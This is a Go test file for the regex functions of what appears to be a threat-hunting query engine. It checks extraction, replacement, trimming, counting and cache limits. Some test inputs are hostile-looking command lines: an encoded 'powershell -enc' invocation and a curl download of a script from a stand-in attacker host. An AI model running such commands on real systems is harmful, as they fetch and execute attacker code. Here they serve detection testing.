package builtin

import (
	"strings"
	"testing"

	"offhunt/detect/data"
)

func TestRegexFunctions(t *testing.T) {
	const guid = "82b8be2d-dfa7-4bd1-8f63-24ad26d31449"
	runCases(t, []fcase{
		// extract (cases.tsv extract-groups, extract-typed).
		{"extract", a(S("User: ([^,]+)"), L(1), S("User: James, Email: James@example.com, Age: 29")), "James"},
		{"extract", a(S(`Email: (\S+),`), L(1), S("User: David, Age: 35")), ""},
		{"extract", a(S(`\d+`), L(0), S("User: David, Age: 35")), "35"},
		{"extract", a(S(`-(\d{2})-`), L(1), S("15-12-2024"), S("int")), "12"},
		{"extract", a(S(`-(\d{2})-`), L(1), S("21-07-2023"), S("typeof(long)")), "7"},
		{"extract", a(S(`-(\d{2})-`), L(1), S("no match"), S("int")), "null"},
		{"extract", a(S(`(\w+)`), L(1), S("abc"), S("int")), "null"},
		{"extract", a(S(`(\d+)`), L(1), S("x 2015-12-31"), S("datetime")), "null"},
		{"extract", a(S(`(\S+)`), L(1), S("2015-12-31"), S("datetime")), "2015-12-31T00:00:00.0000000Z"},
		{"extract", a(S(`(a)|(b)`), L(2), S("a")), ""},
		{"extract", a(S(`(a)`), L(5), S("a")), ""},
		{"extract", a(S(`(`), L(0), S("a")), ""},
		{"extract", a(S(`a`), L(0), N), ""},
		{"extract", a(S(`(?i)CMD`), L(0), S("run cmd.exe")), "cmd"},
		{"extract", a(S(`\s+([A-Za-z0-9+/]{20}\S+$)`), L(1), S("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA")),
			"SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"},
		// A pattern from the hunting corpus with [$-_@.&+] (a range).
		{"extract", a(S(`http[s]?:\/\/(?:[a-zA-Z]|[0-9]|[$-_@.&+]|[!*\(\),]|(?:%[0-9a-fA-F][0-9a-fA-F]))+`), L(0),
			S("curl https://evil.example/x.ps1 -o x")), "https://evil.example/x.ps1"},
		// extract_all (cases.tsv extract_all-*).
		{"extract_all", a(S(`([\da-f]{2})`), S(guid)),
			`["82","b8","be","2d","df","a7","4b","d1","8f","63","24","ad","26","d3","14","49"]`},
		{"extract_all", a(S(`(\w)(\w+)(\w)`), S(guid)),
			`[["8","2b8be2","d"],["d","fa","7"],["4","bd","1"],["8","f6","3"],["2","4ad26d3144","9"]]`},
		{"extract_all", a(S(`(\w)(\w+)(\w)`), D(`[1,3]`), S(guid)),
			`[["8","d"],["d","7"],["4","1"],["8","3"],["2","9"]]`},
		{"extract_all", a(S(`(?P<first>\w)(?P<middle>\w+)(?P<last>\w)`), D(`["first",2,"last"]`), S(guid)),
			`[["8","2b8be2","d"],["d","fa","7"],["4","bd","1"],["8","f6","3"],["2","4ad26d3144","9"]]`},
		{"extract_all", a(S(`(\d+)`), S("a set of numbers: 123, 567 and 789")), `["123","567","789"]`},
		{"extract_all", a(S(`(\d+)`), S("no digits")), "null"},
		{"extract_all", a(S(`\d`), S("a1b2")), `["1","2"]`},
		{"extract_all", a(S(`(\d)`), D(`["nope"]`), S("a1")), "null"},
		{"extract_all", a(S(`\b([a-zA-Z0-9 _-]+\.exe)`), S(`C:\a\b.exe;D:\c d\e-f.exe`)), `["b.exe","e-f.exe"]`},
		// replace_regex.
		{"replace_regex", a(S("A magic trick can turn a cat into a dog"), S("cat"), S("hamster")),
			"A magic trick can turn a hamster into a dog"},
		{"replace_regex", a(S("Number 1 and 22"), S(`(\d+)`), S(`<\1>`)), "Number <1> and <22>"},
		{"replace_regex", a(S("abc"), S(`b`), S(`$1\0\0`)), "a$1bbc"},
		{"replace_regex", a(S("abc"), S(`(`), S(`x`)), ""},
		// trim (cases.tsv trim-literal, trim-regex).
		{"trim", a(S("--"), S("--https://bing.com--")), "https://bing.com"},
		{"trim", a(S(`[^\w]+`), S("-  Te st1// $")), "Te st1"},
		{"trim_start", a(S(`[^\w]+`), S("-  Te st1// $")), "Te st1// $"},
		{"trim_end", a(S(`[^\w]+`), S("-  Te st1// $")), "-  Te st1"},
		{"trim", a(S(`\s`), S("   ")), ""},
		{"trim", a(S(`x`), S("")), ""},
		// countof (documented examples).
		{"countof", a(S("aaa"), S("a")), "3"},
		{"countof", a(S("aaaa"), S("aa")), "3"},
		{"countof", a(S("ababa"), S("ab"), S("normal")), "2"},
		{"countof", a(S("ababa"), S("aba")), "2"},
		{"countof", a(S("ababa"), S("aba"), S("regex")), "1"},
		{"countof", a(S("abcabc"), S("a.c"), S("regex")), "2"},
		{"countof", a(S("abc"), S("")), "0"},
		{"countof", a(S("abc"), S("a"), S("bogus")), "null"},
	})
}

func TestRegexLimits(t *testing.T) {
	long := strings.Repeat("a", MaxRegexLength+1)
	if got := call(t, "extract", S(long), L(0), S("aaa")); got.S != "" {
		t.Error("a pattern over the limit must not match")
	}
	if got := call(t, "countof", S("aaa"), S(long), S("regex")); got.K != data.KNull {
		t.Error("countof with a pattern over the limit must be null")
	}
	// One call site, many patterns: the cache must stay bounded.
	b, _ := Lookup("extract")
	c := &CallContext{}
	for i := 0; i < 3*maxCachedRegexes; i++ {
		p := strings.Repeat("b", i+1)
		b.Eval(c, []data.Value{S(p), L(0), S("bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb")})
	}
	if rc := c.State.(*regexCache); len(rc.m) > maxCachedRegexes {
		t.Errorf("regex cache grew to %d", len(rc.m))
	}
}

func TestExtractReturnConst(t *testing.T) {
	b, _ := Lookup("extract")
	types := []data.Type{data.String, data.Long, data.String, data.String}
	if rt, _ := b.Return(types); rt != data.Unknown {
		t.Errorf("typed extract without constants: %s", rt)
	}
	long := S("long")
	rt, msg := b.ReturnConst(types, []*data.Value{nil, nil, nil, &long})
	if rt != data.Long || msg != "" {
		t.Errorf("extract(..., typeof(long)) binds to %s %q", rt, msg)
	}
	bad := S("banana")
	if _, msg := b.ReturnConst(types, []*data.Value{nil, nil, nil, &bad}); msg == "" {
		t.Error("an unknown type name must be a bind error")
	}
	if rt, _ := b.Return(types[:3]); rt != data.String {
		t.Errorf("untyped extract: %s", rt)
	}
}

// BenchmarkExtract measures the per-row cost with a cached regex.
func BenchmarkExtract(bm *testing.B) {
	b, _ := Lookup("extract")
	c := &CallContext{}
	args := []data.Value{S(`[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}`), L(0), S("cmd /c ping 10.1.2.3 -n 1")}
	for bm.Loop() {
		b.Eval(c, args)
	}
}
